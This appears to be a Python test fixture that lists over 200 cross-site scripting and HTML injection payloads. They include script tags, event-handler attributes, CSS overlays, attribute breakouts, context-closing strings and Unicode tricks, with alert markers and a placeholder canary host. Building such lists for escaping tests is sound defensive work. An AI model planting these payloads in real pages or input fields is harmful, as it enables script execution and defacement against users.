"""What people with bad intentions put into names, notes and contents (S4).

Each would set ``window.hit``, open a dialog, load something or change how the page looks.
"""

from itertools import product

__all__ = ["ACTING", "PAYLOADS"]

_ACT = "window.hit=1;alert(1)"
_FAR = "https://canary.invalid/x"

_SCRIPTS = [
    f"<script>{_ACT}</script>", f"<ScRiPt>{_ACT}</sCrIpT>", f"<script src={_FAR}></script>",
    f"<script\x0c>{_ACT}</script\n>", f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"<script type=module>import '{_FAR}'</script>", f"<script/x>{_ACT}</script>",
    f"<noscript><p title='</noscript><script>{_ACT}</script>'>", f"<<script>{_ACT}//<</script>",
    f"<template><script>{_ACT}</script></template>", f"\u2028<script>{_ACT}</script>",
]  # fmt: skip
_ELEMENTS = [
    f"<img src=x onerror={_ACT}>", f"<img src={_FAR}>", f"<img/src=`x`onerror={_ACT}>",
    f"<svg onload={_ACT}>", f"<svg><script>{_ACT}</script></svg>", f"<body onload={_ACT}>",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>", f"<video src=x onerror={_ACT}>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_ACT} />#x'/></svg>",
    f"<iframe src='javascript:{_ACT}'></iframe>", f"<iframe srcdoc='<script>{_ACT}</script>'>",
    f"<object data={_FAR}></object>", f"<embed src={_FAR}>", f"<link rel=stylesheet href={_FAR}>",
    f"<base href={_FAR}>", f"<meta http-equiv=refresh content='0;url={_FAR}'>",
    f"<form action={_FAR}><input autofocus onfocus={_ACT}></form>",
    f"<details open ontoggle={_ACT}>", f"<audio src={_FAR} autoplay>",
    f"<a href='javascript:{_ACT}'>x</a>", f"<math><a xlink:href='javascript:{_ACT}'>x</a></math>",
    f"<input onfocus={_ACT} autofocus>", f"<marquee onstart={_ACT}>",
    f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={_ACT}>",
    f"<table background={_FAR}>", f"<isindex action=javascript:{_ACT} type=image>",
    f"<picture><source srcset={_FAR}><img></picture>", f"<xmp><img src=x onerror={_ACT}></xmp>",
]  # fmt: skip
_STYLES = [
    "<style>*{display:none}</style>", f"<style>@import '{_FAR}';</style>",
    "<p style='position:fixed;inset:0;background:red'>", f"<p style=\"background:url('{_FAR}')\">",
    f"<style>body{{background:url({_FAR})}}</style>", "<font size=7000 color=red>",
    "<style>:root{--text:#fff!important}</style>", f"<link rel=preload as=image href={_FAR}>",
    "<plaintext>", "<frameset><frame></frameset>", "<h1 class=gap id=x>", "<title>other</title>",
]  # fmt: skip
_ENDS = [
    "{}", '">{}', "'>{}", "--><!-- -->{}", "</title>{}", "</style>{}", "</td></tr></table>{}",
    "</pre></summary></details>{}", "]]>{}", "\\u003c{}", "&lt;{}", "\x00{}",
]  # fmt: skip
_ATTRIBUTES = [
    f'" onmouseover="{_ACT}', f"' onfocus='{_ACT}' autofocus='", '" style="display:none',
    f"x onload={_ACT} ", f'" autofocus onfocus={_ACT} x="', '"/><base href="//canary.invalid',
    f"data:text/html,<script>{_ACT}</script>", f"javascript:{_ACT}", f"&#x22; onload={_ACT}",
    f'image/png;base64," onerror="{_ACT}',
]  # fmt: skip
_UNICODE = [
    "\u202egpj.exe", "\u2066<script>\u2069", "a\u200bb", "\ufeff", "\x1b]8;;http://x\x07y",
    "\ud800", "\U000e0041\U000e0042", "\uff1cscript\uff1e" + _ACT, "+ADw-script+AD4-" + _ACT,
    "\x85\u2029",    "%3Cscript%3E" + _ACT, "\udcff\udcfe", "&lt;script&gt;" + _ACT, "Z̸͎͊a̷͓̾l̵̢͝g̷̰̈́ǒ̶̬" * 20,
]  # fmt: skip

ACTING = [*_SCRIPTS, *_ELEMENTS, *_STYLES]
"""Those that would act as they are, in the middle of a page."""

_CROSSED = [
    end.format(payload)
    for end, payload in product(_ENDS[1:], [_SCRIPTS[0], *_ELEMENTS[:6], *_STYLES[:5]])
]

PAYLOADS = [*ACTING, *_ATTRIBUTES, *_UNICODE, *_CROSSED]
"""More than 200, each once."""
